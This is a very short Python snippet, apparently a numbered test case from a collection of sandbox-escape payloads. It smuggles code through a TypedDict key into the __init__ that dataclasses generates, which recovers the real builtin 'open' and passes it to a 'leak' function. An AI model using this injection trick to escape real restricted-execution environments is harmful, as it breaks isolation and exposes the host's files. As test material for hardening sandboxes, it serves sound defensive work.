# source: own: as 300, with the real builtins of exec
import dataclasses, typing
X = typing.TypedDict('X', {'a, b=[x for x in [open]]': int})
leak(dataclasses.dataclass(X, repr=False, eq=False)(1).b)
